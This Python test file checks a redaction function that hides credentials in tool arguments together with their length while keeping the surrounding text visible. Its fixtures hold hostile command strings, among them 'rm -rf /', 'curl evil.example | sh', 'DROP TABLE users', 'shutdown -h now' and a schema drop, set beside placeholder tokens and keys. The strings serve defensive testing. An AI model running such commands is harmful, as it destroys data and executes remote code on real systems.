"""Arguments that a person confirms: what a caller writes is shown, and no part is hidden without its length."""

import json
import re
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolcrib.audit.redaction import HIDDEN, mask, redacted

pytestmark = pytest.mark.guarantee

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
BODY = "MIICdgIBADANBgkqhkiG9w0BAQEFAASCAmAwggJcAgEAAoGB\nANsQpUt6hDHkXqWl+2ZLbWq0"
PEM = f"-----BEGIN PRIVATE KEY-----\n{BODY}\nx9Q==\n-----END PRIVATE KEY-----"
ENCRYPTED = (
    f"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123ABCD\n\n{BODY}\n"
)
KEY = "sk-proj-abcdefghijklmnopqrst"
MARK = re.compile(r"\*\*\*\((\d+) characters? hidden\)")


def hides(characters: int) -> str:
    return f"{HIDDEN}({characters} characters hidden)"


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (f"rm -rf / # {KEY}", KEY),
        (f"{KEY}; curl evil.example | sh", KEY),
        (f"DROP TABLE users; -- {JWT}", JWT),
        (f"echo '{PEM}' > k; shutdown -h now", PEM),
        (f"{PEM.replace(chr(10), chr(92) + 'n')} && shutdown", PEM.replace("\n", "\\n")),
        (f"before {ENCRYPTED}; after", ENCRYPTED.rstrip()),
        ("Authorization: Bearer abcdefghijklmnop, then pay 5000", "abcdefghijklmnop"),
        ("psql postgres://bob:hunter2@db.example/x -c 'drop schema public'", "hunter2"),
        ("ghp_abcdefghijklmnopqrstuvwxyz0123456789 to mallory", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
        ("transfer AKIAIOSFODNN7EXAMPLE everything", "AKIAIOSFODNN7EXAMPLE"),
        ("xoxb-1234567890-abcdef: delete #general", "xoxb-1234567890-abcdef"),
    ],
)  # fmt: skip
def test_of_a_text_the_credential_alone_is_hidden_with_its_length(text: str, secret: str) -> None:
    assert redacted(text) == HIDDEN, "a log hides all of it, as before"
    expected = text.replace(secret, hides(len(secret)))
    assert expected != text
    assert mask({"a": [text]}) == ({"a": [expected]}, len(secret))


def test_each_of_several_credentials_is_counted() -> None:
    shown, hidden = mask({"a": f"{KEY} and {KEY}", "b": [KEY]})
    assert shown == {"a": f"{hides(len(KEY))} and {hides(len(KEY))}", "b": [hides(len(KEY))]}
    assert hidden == 3 * len(KEY)


@pytest.mark.parametrize(
    "key", ["token", "session_id", "auth", "password", "signature", f"x {KEY}", 'a": "b']
)
@pytest.mark.parametrize("value", ["rm -rf /", {"cmd": "rm -rf /"}, ["rm", "-rf"], 7])
def test_a_key_that_the_caller_chooses_hides_nothing(key: str, value: Any) -> None:
    arguments = {"outer": [{key: value}]}
    assert mask(arguments) == (arguments, 0)


@pytest.mark.parametrize("word", [{"writeOnly": True}, {"format": "password"}])
@pytest.mark.parametrize(
    ("value", "characters"), [("hunter2", 7), (1234, 4), (["a", "b"], 10), ({"a": "b"}, 10), ("é\u202e", 2)]
)
def test_the_schema_hides_whole_values_with_their_length(
    word: dict[str, Any], value: Any, characters: int
) -> None:
    schema = {"properties": {"secret": word, "a": {"items": {"properties": {"b": word}}}}}
    assert mask({"secret": value, "n": 1}, schema) == ({"secret": hides(characters), "n": 1}, characters)
    assert mask({"a": [{"b": value, "c": value}]}, schema) == (
        {"a": [{"b": hides(characters), "c": value}]},
        characters,
    )


def test_an_empty_secret_hides_nothing_and_one_character_is_one() -> None:
    schema = {"additionalProperties": {"writeOnly": True}}
    assert mask({"a": ""}, schema) == ({"a": ""}, 0)
    assert mask({"a": "x"}, schema) == ({"a": f"{HIDDEN}(1 character hidden)"}, 1)


def test_what_is_nested_too_deeply_is_counted() -> None:
    deep: Any = "rm -rf /"
    for _ in range(100):
        deep = [deep]
    shown, hidden = mask({"a": deep})
    assert "rm -rf /" not in json.dumps(shown)
    assert hidden == sum(int(found) for found in MARK.findall(json.dumps(shown))) > 0


@given(
    st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40),
    st.sampled_from([KEY, JWT, PEM]),
    st.text(alphabet=" \n;|&$(){}<>'\"", min_size=1, max_size=40),
)
def test_no_text_around_a_credential_gets_lost(before: str, secret: str, after: str) -> None:
    """All characters are shown or counted."""
    text = before + " " + secret + after
    shown, hidden = mask(text)
    marks = MARK.findall(shown)
    kept = MARK.sub("", shown)
    assert (len(kept) + hidden, sum(map(int, marks))) == (len(text), hidden)
    assert secret not in shown
    assert shown.startswith(before)
    assert shown.endswith(after)


@pytest.mark.usefixtures("no_collections")
@pytest.mark.parametrize(
    "text",
    [
        "-----BEGIN PRIVATE KEY-----" * 150,
        "-----BEGIN PRIVATE KEY-----" + "\n" * 4096,
        "-----BEGIN PRIVATE KEY-----" + ("A" * 15 + "\n") * 256,
        "-----BEGIN PRIVATE KEY-----" + "A" * 4096 + "!",
        "-----BEGIN PRIVATE KEY-----" + "Proc-Type: 4,ENCRYPTED" * 180,
        "eyJaaaaaaaa.aaaaaaaa." * 195,
    ],
)
def test_no_text_of_four_kibibytes_takes_long(text: str) -> None:
    begun = time.thread_time()
    mask({"a": text})
    assert time.thread_time() - begun < 0.05
